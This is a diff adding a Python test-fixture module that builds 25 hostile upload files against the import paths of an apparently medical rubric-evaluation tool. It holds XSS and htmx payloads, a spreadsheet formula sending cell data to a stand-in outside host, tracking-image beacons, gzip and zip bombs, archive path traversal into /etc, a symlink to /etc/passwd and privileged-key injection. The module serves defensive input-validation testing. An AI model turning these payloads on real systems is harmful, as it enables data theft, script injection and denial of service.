@@ -1,0 +1,512 @@
+"""25 kinds of hostile files for every door that takes a file, made as they are read, at any size.
+
+`bench/hostile.py` sends them at full size and measures memory; `tests/rubrics/test_hostile.py` sends small ones.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+import tarfile
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass, field
+from functools import cache
+from typing import Any, BinaryIO, cast
+
+MARK = "@@HERE@@"
+FORMULA = '=HYPERLINK("http://outside.example/?"&A1,"open")'
+MARKDOWN = (
+    "<script>window.hit=1</script><img src=x onerror=window.hit=1>"
+    "<div hx-get='/accounts/logout/' hx-trigger='load' hx-on:click='window.hit=1'>x</div>[go](javascript:window.hit=1)"
+)
+BEACON = "![seen](http://outside.example/pixel.png)<img src='http://outside.example/pixel.png'>"
+PRIVILEGED = {
+    "is_staff": True, "is_superuser": True, "status": "superseded", "published_at": "2001-01-01", "grader_id": 1,
+    "created_by": 1, "benchmark": 1, "pk": 1, "excluded_at": "2001-01-01", "__class__": "User", "password": "x",
+}  # fmt: skip
+NFC, NFD = "caf\u00e9", "cafe\u0301"
+
+
+class Pieces(io.RawIOBase):
+    """A file whose bytes are made while it is read; going back to the start makes them anew."""
+
+    def __init__(self, make: Callable[[], Iterator[bytes]]) -> None:
+        self._make = make
+        self._restart()
+
+    def _restart(self) -> None:
+        self._pieces, self._rest, self._at = self._make(), b"", 0
+
+    def readable(self) -> bool:
+        return True
+
+    def seekable(self) -> bool:
+        return True
+
+    def tell(self) -> int:
+        return self._at
+
+    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
+        if whence == io.SEEK_CUR and offset == 0:
+            return self._at
+        if whence != io.SEEK_SET:
+            raise io.UnsupportedOperation("only from the start")
+        if offset < self._at:
+            self._restart()
+        while self._at < offset and self.readinto(bytearray(min(1 << 16, offset - self._at))):
+            pass
+        return self._at
+
+    def readinto(self, buffer: Any) -> int:
+        while not self._rest:
+            piece = next(self._pieces, None)
+            if piece is None:
+                return 0
+            self._rest = piece
+        size = min(len(buffer), len(self._rest))
+        buffer[:size] = self._rest[:size]
+        self._rest = self._rest[size:]
+        self._at += size
+        return size
+
+
+def made(make: Callable[[], Iterator[bytes]]) -> BinaryIO:
+    """A buffered file over `Pieces`."""
+    return cast(BinaryIO, io.BufferedReader(Pieces(make), 1 << 16))
+
+
+# Doors ------------------------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Door:
+    """A kind of file: its rows (sound, and different for each number) and where in them things stand.
+
+    ``columns``: a table, whose cells are texts. Paths name a place in the row: ``("rubrics", 0, "points")``.
+    """
+
+    name: str
+    kind: str
+    row: Callable[[int], dict[str, Any]]
+    key: tuple[Any, ...]  # what must not stand twice
+    text: tuple[Any, ...]  # a free text
+    number: tuple[Any, ...]  # a number; an unknown field where there is none
+    criteria: tuple[Any, ...] = ()  # what may not be empty
+    texts: tuple[tuple[Any, ...], ...] = ()  # every other text
+    options: Mapping[str, str] = field(default_factory=dict)
+    columns: tuple[str, ...] = ()
+    once: bool = True  # an id may stand once; graded responses of a case are its samples, rows of a case its criteria
+    strict: bool = False  # refuses unknown fields
+
+
+def placed(row: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
+    """The row with ``value`` at ``path``."""
+    copy = json.loads(json.dumps(row))
+    inner = copy
+    for step in path[:-1]:
+        inner = inner[step]
+    inner[path[-1]] = value
+    return cast("dict[str, Any]", copy)
+
+
+def encoded(door: Door, row: dict[str, Any], end: str = "\n") -> bytes:
+    """A row as a line; in a table without its header."""
+    if not door.columns:
+        return (json.dumps(row, ensure_ascii=False) + end).encode("utf-8", "surrogatepass")
+    buffer = io.StringIO()
+    names = (*door.columns, *_others(door, row))
+    csv.writer(buffer, lineterminator=end).writerow([row.get(name, "") for name in names])
+    return buffer.getvalue().encode("utf-8", "surrogatepass")
+
+
+def _others(door: Door, row: dict[str, Any]) -> list[str]:
+    return [name for name in row if name not in door.columns]
+
+
+def header(door: Door, row: dict[str, Any] | None = None, end: str = "\n") -> bytes:
+    """The first line of a table; nothing for JSONL."""
+    return (",".join((*door.columns, *_others(door, row or {}))) + end).encode() if door.columns else b""
+
+
+def plain(door: Door, *rows: dict[str, Any], end: str = "\n") -> bytes:
+    """Rows as a whole file."""
+    return header(door, rows[0], end) + b"".join(encoded(door, row, end) for row in rows)
+
+
+def second(door: Door, raw: bytes, path: tuple[Any, ...], *, quoted: bool = False) -> bytes:
+    """A sound row, then one with ``raw`` bytes at ``path``: instead of the whole JSON value, or within its quotes."""
+    bad = encoded(door, placed(door.row(1), path, MARK))
+    mark = MARK.encode() if quoted or door.columns else f'"{MARK}"'.encode()
+    return header(door) + encoded(door, door.row(0)) + bad.replace(mark, raw)
+
+
+def bytes_file(data: bytes) -> BinaryIO:
+    return io.BytesIO(data)
+
+
+# The 25 -----------------------------------------------------------------------------------------------------------
+
+REFUSED, IMPORTED, EITHER = "refused", "imported", "either"
+
+
+@dataclass(frozen=True)
+class Sent:
+    """A file, and what must become of it: refused at ``line`` (None: any), with or without a field named."""
+
+    file: BinaryIO
+    outcome: str
+    line: int | None = None
+    field: bool = False
+
+
+Maker = Callable[[Door, bool], Sent | None]
+
+
+def _bad_line(door: Door) -> int:
+    return 3 if door.columns else 2
+
+
+def nested_brackets(door: Door, full: bool) -> Sent | None:
+    raw = b"[" * 100_000
+    if door.columns:  # a text like any other
+        return Sent(bytes_file(second(door, raw[:10_000], door.text)), IMPORTED)
+    return Sent(bytes_file(second(door, raw, door.text)), REFUSED, 2, True)
+
+
+def nul(door: Door, full: bool) -> Sent | None:
+    raw = b"a\x00b" if door.columns else rb"a\u0000b"
+    return Sent(bytes_file(second(door, raw, door.text, quoted=True)), REFUSED, _bad_line(door), True)
+
+
+def lone_surrogate(door: Door, full: bool) -> Sent | None:
+    raw = b"\xed\xa0\xbd" if door.columns else rb"\ud83d"
+    return Sent(bytes_file(second(door, raw, door.text, quoted=True)), REFUSED, _bad_line(door), not door.columns)
+
+
+def _number(raw: bytes) -> Maker:
+    def make(door: Door, full: bool) -> Sent | None:
+        if not door.number:
+            return None
+        return Sent(bytes_file(second(door, raw, door.number)), REFUSED, _bad_line(door), True)
+
+    return make
+
+
+def duplicate_keys(door: Door, full: bool) -> Sent | None:
+    if door.columns:
+        return Sent(bytes_file(header(door).replace(b"\n", f",{door.columns[0]}\n".encode())), REFUSED, 1, True)
+    twice = f'{{"{next(iter(door.row(1)))}": "x", '.encode()
+    bad = encoded(door, door.row(1)).replace(b"{", twice, 1)
+    return Sent(bytes_file(encoded(door, door.row(0)) + bad), REFUSED, 2, True)
+
+
+def duplicate_ids(door: Door, full: bool) -> Sent | None:
+    if not door.once:
+        return None
+    return Sent(bytes_file(plain(door, door.row(0), placed(door.row(0), door.text, "Other."))), REFUSED, None, True)
+
+
+def twin_ids(door: Door, full: bool) -> Sent | None:
+    if not door.key:
+        return None
+    rows = [placed(door.row(0), door.key, name) for name in (NFC, NFD)]
+    return Sent(bytes_file(plain(door, *rows)), REFUSED, None, True)
+
+
+def line_separators(door: Door, full: bool) -> Sent | None:
+    row = placed(door.row(0), door.text, "One\u2028line\u2029with\x85marks\x0b\x0c.")
+    return Sent(bytes_file(plain(door, row)), IMPORTED)
+
+
+def byte_order_mark(door: Door, full: bool) -> Sent | None:
+    data = b"\xef\xbb\xbf" + plain(door, door.row(0))
+    return Sent(bytes_file(data), IMPORTED) if door.columns else Sent(bytes_file(data), REFUSED, 1)
+
+
+def utf_16(door: Door, full: bool) -> Sent | None:
+    return Sent(bytes_file(plain(door, door.row(0)).decode().encode("utf-16")), REFUSED, 1)
+
+
+def crlf(door: Door, full: bool) -> Sent | None:
+    return Sent(bytes_file(plain(door, door.row(0), door.row(1), end="\r\n")), IMPORTED)
+
+
+def long_line(door: Door, full: bool) -> Sent | None:
+    size = (2 << 30) if full else (17 << 20)
+    start, _mark, rest = second(door, MARK.encode(), door.text, quoted=True).partition(MARK.encode())
+
+    def pieces() -> Iterator[bytes]:
+        yield start
+        for _piece in range(size >> 20):
+            yield b"x" * (1 << 20)
+        yield rest
+
+    return Sent(made(pieces), REFUSED, _bad_line(door), not door.columns)
+
+
+@cache
+def _gzip_bomb(size: int) -> bytes:
+    buffer = io.BytesIO()
+    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as file:
+        for _piece in range(size):
+            file.write(bytes(1 << 20))
+    return buffer.getvalue()
+
+
+def gzip_bomb(door: Door, full: bool) -> Sent | None:
+    return Sent(bytes_file(_gzip_bomb(1024 if full else 8)), REFUSED)
+
+
+def _zipped(names: Mapping[str, bytes], bomb: int = 0, bomb_name: str = "cases.jsonl") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in names.items():
+            archive.writestr(name, data)
+        if bomb:
+            with archive.open(bomb_name, "w", force_zip64=True) as member:
+                for _piece in range(bomb):
+                    member.write(bytes(1 << 20))
+    return buffer.getvalue()
+
+
+WORKBOOK = {
+    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+    "xl/workbook.xml": b"<workbook/>",
+}
+
+
+@cache
+def _zip_bomb(size: int) -> bytes:
+    return _zipped(WORKBOOK, size, "xl/worksheets/sheet1.xml")
+
+
+def zip_bomb(door: Door, full: bool) -> Sent | None:
+    return Sent(bytes_file(_zip_bomb(1024 if full else 70)), REFUSED)  # MiB; a workbook may unpack to 64
+
+
+def path_traversal(door: Door, full: bool) -> Sent | None:
+    data = plain(door, door.row(0))
+    names = ("../../../../etc/consilium-was-here", "/etc/consilium-was-here")
+    return Sent(bytes_file(_zipped(dict.fromkeys(names, data))), REFUSED)
+
+
+def symlinks(door: Door, full: bool) -> Sent | None:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        link = tarfile.TarInfo("cases.jsonl")
+        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+        archive.addfile(link)
+    return Sent(bytes_file(buffer.getvalue()), REFUSED)
+
+
+def empty_rubric(door: Door, full: bool) -> Sent | None:
+    if not door.criteria:
+        return Sent(bytes_file(b""), REFUSED)
+    empty: Any = [] if door.criteria == ("rubrics",) else ""
+    rows = [door.row(0), placed(door.row(1), door.criteria, empty)]
+    return Sent(bytes_file(plain(door, *rows)), REFUSED, _bad_line(door), True)
+
+
+def only_negative(door: Door, full: bool) -> Sent | None:
+    if door.name != "healthbench":
+        return None
+    return Sent(bytes_file(plain(door, placed(door.row(0), door.number, -5))), IMPORTED)
+
+
+def million_lines(door: Door, full: bool) -> Sent | None:
+    lines = 1_000_000 if full else 600
+
+    def pieces() -> Iterator[bytes]:
+        yield header(door)
+        for number in range(lines - 1):
+            yield encoded(door, door.row(number))
+        yield b'"broken' if door.columns else b'{"broken": '
+
+    # Some doors have had enough before the end: a rubric has 500 criteria, a bank 10,000, a verdict stands once.
+    enough = door.kind in ("rubrics", "bank") or door.name == "verdicts"
+    return Sent(made(pieces), REFUSED, None if enough else lines + bool(door.columns))
+
+
+def _texts(value: str) -> Maker:
+    def make(door: Door, full: bool) -> Sent | None:
+        return Sent(bytes_file(plain(door, placed(door.row(0), door.text, value))), IMPORTED)
+
+    return make
+
+
+def formulas(door: Door, full: bool) -> Sent | None:
+    row = placed(door.row(0), door.text, FORMULA)
+    for number, path in enumerate(door.texts):
+        row = placed(row, path, f"{FORMULA}&{number}")
+    return Sent(bytes_file(plain(door, row)), IMPORTED)
+
+
+def privileged_keys(door: Door, full: bool) -> Sent | None:
+    row = {**door.row(0), **PRIVILEGED}
+    return Sent(bytes_file(plain(door, row)), *((REFUSED, None, True) if door.strict else (EITHER,)))
+
+
+HOSTILE: dict[str, Maker] = {
+    "100,000 nested brackets": nested_brackets,
+    "a NUL": nul,
+    "a lone surrogate": lone_surrogate,
+    "5,000-digit points": _number(b"9" * 5_000),
+    "NaN points": _number(b"NaN"),
+    "1e400 points": _number(b"1e400"),
+    "a key twice in an object": duplicate_keys,
+    "an id twice": duplicate_ids,
+    "NFC and NFD twins": twin_ids,
+    "U+2028 inside text": line_separators,
+    "a byte order mark": byte_order_mark,
+    "UTF-16": utf_16,
+    "CRLF": crlf,
+    "2 GB on one line": long_line,
+    "a gzip bomb": gzip_bomb,
+    "a zip bomb": zip_bomb,
+    "path traversal in an archive": path_traversal,
+    "symlinks in an archive": symlinks,
+    "an empty rubric": empty_rubric,
+    "only negative points": only_negative,
+    "a million lines, the last bad": million_lines,
+    "script and htmx in Markdown": _texts(MARKDOWN),
+    "remote images": _texts(BEACON),
+    "formulas in every text": formulas,
+    "privileged keys": privileged_keys,
+}
+
+CONVERSATION = [{"role": "user", "content": "How long may a cough last?"}]
+
+
+def _example(number: int) -> dict[str, Any]:
+    return {
+        "prompt_id": f"h-{number}",
+        "prompt": CONVERSATION,
+        "rubrics": [{"criterion": "Asks about smoking.", "points": 5, "tags": ["axis:accuracy"]}],
+        "example_tags": ["theme:hedging"],
+        "ideal_completions_data": None,
+        "canary": "made up",
+    }
+
+
+def _clinconsensus(number: int) -> dict[str, Any]:
+    return {
+        "case_id": f"cc-{number}", "difficulty": "low", "task": "t", "task_labels": ["t"], "subject": "s",
+        "subject_labels": ["s"], "user_role": "u", "clinical_context": "Cough.", "user_request": "Why?",
+        "rubrics": ["Asks about smoking."], "reference_answer": "It depends.",
+    }  # fmt: skip
+
+
+def _response(number: int) -> dict[str, Any]:
+    return {"case": "base-0", "candidate": "other", "sample": number, "response": "Rest.", "external_id": f"x{number}"}
+
+
+def _decision(number: int) -> dict[str, Any]:
+    place, rater = number % 30, number // 30
+    return {
+        "case": "base-0", "candidate": "m", "sample": place % 10, "criterion": 1 + place // 10, "rater": f"r-{rater}",
+        "outcome": "met", "note": "Seen.",
+    }  # fmt: skip
+
+
+def _verdict(number: int) -> dict[str, Any]:
+    row = {**_decision(number % 30), "explanation": "Said so."}
+    del row["rater"], row["note"]
+    return row
+
+
+def _graded(number: int) -> dict[str, Any]:
+    return {
+        "prompt_id": f"g-{number}",
+        "prompt": CONVERSATION,
+        "rubrics": [{"criterion": "Asks about smoking.", "points": 5, "tags": []}],
+        "completion": "Rest.",
+        "responses": [{"response_dict": {"explanation": "Said so.", "criteria_met": True}, "points": 5, "tags": []}],
+    }
+
+
+def _pair(number: int) -> dict[str, Any]:
+    return {
+        "prompt_id": f"e-{number}", "prompt": CONVERSATION, "completion_id": f"c-{number}", "completion": "Rest.",
+        "rubric": "Is clear.", "category": "cluster:clear", "binary_labels": [True, False],
+        "anonymized_physician_ids": ["D1", "D2"],
+    }  # fmt: skip
+
+
+def _bank(number: int) -> dict[str, Any]:
+    return {"key": f"k-{number}", "section": "evidence", "text_en": "Names the drug.", "points": 5}
+
+
+def _rubric_row(number: int) -> dict[str, Any]:
+    return {
+        "case": "base-1", "position": number + 1, "criterion": f"Names the drug {number}.", "points": 5, "tags": "x",
+        "source": "", "element": "", "expectation": "", "bank": "",
+    }  # fmt: skip
+
+
+DECISION_COLUMNS = ("case", "candidate", "sample", "criterion", "rater", "outcome", "note")
+BANK_COLUMNS = ("key", "section", "text_en", "points")
+RUBRIC_COLUMNS = ("case", "position", "criterion", "points", "tags", "source", "element", "expectation", "bank")
+DOORS = [
+    Door(
+        "healthbench", "cases", _example, ("prompt_id",), ("prompt", 0, "content"), ("rubrics", 0, "points"),
+        ("rubrics",), (("prompt_id",), ("rubrics", 0, "criterion"), ("rubrics", 0, "tags", 0), ("example_tags", 0)),
+        options={"format": "healthbench"},
+    ),
+    Door(
+        "clinconsensus", "cases", _clinconsensus, ("case_id",), ("user_request",), ("weight",), ("rubrics",),
+        (("case_id",), ("rubrics", 0), ("task_labels", 0), ("subject_labels", 0), ("reference_answer",)),
+        options={"format": "clinconsensus"},
+    ),
+    Door("responses", "responses", _response, ("candidate",), ("response",), ("sample",), ("case",), (("candidate",),)),
+    Door(
+        "decisions", "decisions", _decision, ("rater",), ("note",), ("sample",), ("criterion",), (("rater",),),
+        options={"group": "G"},
+    ),
+    Door(
+        "decisions (CSV)", "decisions", _decision, ("rater",), ("note",), ("sample",), ("criterion",), (("rater",),),
+        options={"group": "G"}, columns=DECISION_COLUMNS,
+    ),
+    Door(
+        "verdicts", "verdicts", _verdict, (), ("explanation",), ("sample",), ("criterion",), (),
+        options={"judge": "elsewhere"},
+    ),
+    Door(
+        "verdicts (graded)", "verdicts", _graded, ("prompt_id",), ("completion",), ("rubrics", 0, "points"),
+        ("rubrics",), (("prompt_id",), ("rubrics", 0, "criterion")),
+        options={"judge": "elsewhere", "candidate": "graded"}, once=False,
+    ),
+    Door(
+        "meta-evaluation", "meta_eval", _pair, ("prompt_id",), ("completion",), ("weight",), ("rubric",),
+        (("rubric",), ("category",), ("anonymized_physician_ids", 0)), options={"group": "G"},
+    ),
+    Door(
+        "bank", "bank", _bank, ("key",), ("text_en",), ("points",), ("text_en",), (("section",),),
+        options={"bank": "ours"}, strict=True,
+    ),
+    Door(
+        "bank (CSV)", "bank", _bank, ("key",), ("text_en",), ("points",), ("text_en",), (("section",),),
+        options={"bank": "ours"}, columns=BANK_COLUMNS, strict=True,
+    ),
+    Door(
+        "rubrics (CSV)", "rubrics", _rubric_row, (), ("criterion",), ("points",), ("case",),
+        (("tags",), ("source",), ("element",), ("expectation",)), columns=RUBRIC_COLUMNS, once=False,
+    ),
+]  # fmt: skip
+
+
+def base() -> bytes:
+    """Cases that the other doors refer to: two, with three criteria each."""
+    rows = []
+    for number in range(2):
+        criteria = [{"criterion": f"Asks {n}.", "points": 5, "tags": []} for n in range(3)]
+        rows.append({**_example(number), "prompt_id": f"base-{number}", "rubrics": criteria})
+    return b"".join((json.dumps(row) + "\n").encode() for row in rows)
+
+
+def base_responses() -> bytes:
+    """Ten responses to the first case."""
+    rows = [{"case": "base-0", "candidate": "m", "sample": n, "response": f"Rest {n}."} for n in range(10)]
+    return b"".join((json.dumps(row) + "\n").encode() for row in rows)
